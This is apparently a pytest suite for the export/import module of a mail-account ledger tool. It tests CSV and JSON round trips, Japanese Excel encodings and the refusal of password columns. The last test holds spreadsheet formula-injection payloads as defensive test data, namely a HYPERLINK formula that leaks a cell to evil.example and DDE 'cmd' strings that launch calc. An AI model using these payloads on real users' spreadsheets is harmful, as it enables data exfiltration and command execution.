"""Export and import: CSV and JSON round trips on real SQLite, Excel's encodings, no passwords."""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from maildoctor.ledger import csvtext, transfer
from maildoctor.ledger.book import Book
from maildoctor.ledger.errors import LedgerError
from maildoctor.ledger.location import sqlite_url
from maildoctor.ledger.records import ACCOUNTS, COMPANIES, CONTACTS, DEVICES, DOMAINS, PEOPLE, TABLES
from maildoctor.ledger.store import open_book, transaction

PROVIDERS = frozenset({"sakura", "xserver"})


def new_book(path: Path) -> Engine:
    return open_book(sqlite_url(path), create=True)


@pytest.fixture
def full(tmp_path: Path) -> Iterator[Engine]:
    engine = new_book(tmp_path / "full.sqlite3")
    with transaction(engine) as session:
        book = Book(session, "田中", providers=PROVIDERS)
        company = book.add(
            COMPANIES,
            None,
            {"code": "yamada", "name": "山田商事", "default_provider": "sakura", "note": "本社, 2階"},
        )
        book.add(PEOPLE, company, {"name": "山田太郎", "department": "営業部", "email": "taro@example.jp"})
        book.add(
            ACCOUNTS,
            company,
            {
                "address": "taro@example.jp",
                "person": "山田太郎",
                "provider": "sakura",
                "incoming": "pop3s://pop.example.jp",
                "outgoing": "smtps://smtp.example.jp",
                "username": "taro",
                "password_manager": "総務 佐藤",
                "password_location": "金庫のノート",
            },
        )
        book.add(
            DEVICES,
            company,
            {
                "name": "事務所PC",
                "person": "山田太郎",
                "account": "taro@example.jp",
                "kind": "outlook",
                "protocol": "pop3",
                "leave_on_server": "yes",
                "leave_days": "14",
                "last_seen": "2026-11-30",
            },
        )
        book.add(
            DOMAINS,
            company,
            {
                "name": "example.jp",
                "registrar": "お名前.com",
                "expires_on": "2027-03-31",
                "renewal_on": "2027-03-01",
            },
        )
        book.add(
            CONTACTS,
            company,
            {"name": "さくらサポート", "role": "provider", "phone": "0120-000-000", "priority": "1"},
        )
        book.edit(ACCOUNTS, company, "taro@example.jp", {"incoming": "imaps://imap.example.jp"})
    yield engine
    engine.dispose()


def exported(engine: Engine) -> dict[str, transfer.Rows]:
    with transaction(engine) as session:
        return transfer.export_tables(Book(session, "x", providers=PROVIDERS))


def without_times(tables: dict[str, transfer.Rows]) -> dict[str, transfer.Rows]:
    return {
        name: [{key: value for key, value in row.items() if key != "updated_at"} for row in rows]
        for name, rows in tables.items()
    }


def imported(engine: Engine, tables: dict[str, transfer.Rows]) -> transfer.ImportSummary:
    with transaction(engine) as session:
        return transfer.import_tables(Book(session, "復元した人", providers=PROVIDERS), tables)


def test_json_round_trip_restores_rows_and_the_log(full: Engine, tmp_path: Path) -> None:
    before = exported(full)
    assert before["accounts"][0]["incoming"] == "imaps://imap.example.jp:993"
    text = transfer.to_json(before)
    assert "山田商事" in text  # readable, not \u escapes
    copy = new_book(tmp_path / "copy.sqlite3")
    summary = imported(copy, transfer.from_json(text, "book.json"))
    tables = ("companies", "people", "accounts", "devices", "domains", "contacts")
    assert summary.added == dict.fromkeys(tables, 1)
    assert summary.history_restored == len(before["changes"]) > 6
    assert without_times(exported(copy)) == without_times(before)  # the log too: restored, not re-logged
    copy.dispose()


def test_csv_round_trip_one_file_per_table(full: Engine, tmp_path: Path) -> None:
    before = exported(full)
    files = {
        name: csvtext.write_rows(TABLES[name], rows).encode("utf-8-sig") for name, rows in before.items()
    }
    assert files["accounts"].startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with a BOM
    read = {
        name: csvtext.read_rows(csvtext.decode(data, f"{name}.csv"), TABLES[name], f"{name}.csv")
        for name, data in files.items()
    }
    copy = new_book(tmp_path / "copy.sqlite3")
    imported(copy, {name: [dict(row) for row in rows] for name, rows in read.items()})  # type: ignore[misc]
    assert without_times(exported(copy)) == without_times(before)
    copy.dispose()


EXCEL_ACCOUNTS = (
    "会社,アドレス,利用者,受信サーバー,ユーザー名,パスワード管理者,パスワードの保管場所,備考\r\n"
    "yamada,hanako@example.jp,佐藤花子,imaps://imap.example.jp,hanako,総務 髙橋,金庫のノート,経理①\r\n"
)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932", "utf-8"])
def test_excel_csv_with_japanese_headings_and_names(full: Engine, encoding: str) -> None:
    people = csvtext.read_rows(
        csvtext.decode("会社,氏名,部署\r\nyamada,佐藤花子,経理部\r\n".encode(encoding), "people.csv"),
        PEOPLE,
        "people.csv",
    )
    accounts = csvtext.read_rows(csvtext.decode(EXCEL_ACCOUNTS.encode(encoding), "a.csv"), ACCOUNTS, "a.csv")
    assert accounts[0]["person"] == "佐藤花子" and accounts[0]["note"] == "経理①"
    summary = imported(full, {"people": people, "accounts": accounts})  # type: ignore[dict-item]
    assert summary.added == {"people": 1, "accounts": 1}
    rows = {row["address"]: row for row in exported(full)["accounts"]}
    assert rows["hanako@example.jp"]["password_manager"] == "総務 髙橋"
    assert rows["hanako@example.jp"]["incoming"] == "imaps://imap.example.jp:993"


def test_an_import_into_a_book_in_use_edits_and_logs(full: Engine) -> None:
    before = exported(full)
    before["accounts"][0]["username"] = "t.yamada"
    summary = imported(full, {"accounts": before["accounts"], "changes": before["changes"]})
    assert summary.changed == {"accounts": 1} and summary.added == {}
    assert summary.history_left_out == len(before["changes"])
    log = exported(full)["changes"]
    assert log[-1]["actor"] == "復元した人"
    assert (log[-1]["field"], log[-1]["old"], log[-1]["new"]) == ("username", "taro", "t.yamada")


def test_a_bad_row_is_named_and_nothing_is_imported(full: Engine) -> None:
    rows: list[dict[str, str | None]] = [
        {"company": "yamada", "address": "new@example.jp"},
        {"company": "yamada", "address": "bad@example.jp", "incoming": "smtps://smtp.example.jp"},
    ]
    with pytest.raises(LedgerError) as raised:
        imported(full, {"accounts": rows})
    assert raised.value.where == ("accounts", 3)
    assert [row["address"] for row in exported(full)["accounts"]] == ["taro@example.jp"]


@pytest.mark.parametrize("heading", ["password", "パスワード"])
def test_a_password_column_is_refused(heading: str) -> None:
    text = f"address,{heading}\r\ntaro@example.jp,hunter2\r\n"
    with pytest.raises(LedgerError, match="never keeps passwords"):
        csvtext.read_rows(text, ACCOUNTS, "a.csv")
    with pytest.raises(LedgerError, match="never keeps passwords"):
        transfer.from_json(
            json.dumps(
                {
                    "schema": "maildoctor.ledger/1",
                    "tables": {"accounts": [{"address": "a@b.jp", heading: "x"}]},
                }
            ),
            "b.json",
        )


def test_unknown_headings_and_undecodable_files_are_refused() -> None:
    with pytest.raises(LedgerError, match="heading"):
        csvtext.read_rows("adress\r\ntaro@example.jp\r\n", ACCOUNTS, "a.csv")
    with pytest.raises(LedgerError, match="neither UTF-8 nor Shift_JIS"):
        csvtext.decode(b"\x82\xa0\xff\xfe\x81", "a.csv")
    with pytest.raises(LedgerError, match="not a book"):
        transfer.from_json('{"schema": "other"}', "x.json")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
        ("@SUM(1+1)", "'@SUM"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("\t=1", "'\t=1"),
        ("'=1", "''=1"),
        ("+81 3-1234-5678", "+81 3-1234-5678"),  # a telephone number stays as typed
        ("-5", "-5"),
        ("営業部 = 3 人", "営業部 = 3 人"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back(typed: str, written: str) -> None:
    text = csvtext.write_rows(CONTACTS, [{"name": typed}])
    heading, row = list(csv.reader(io.StringIO(text)))[:2]
    assert row[heading.index("name")].startswith(written)
    assert csvtext.read_rows(text, CONTACTS, "contacts.csv")[0]["name"] == typed
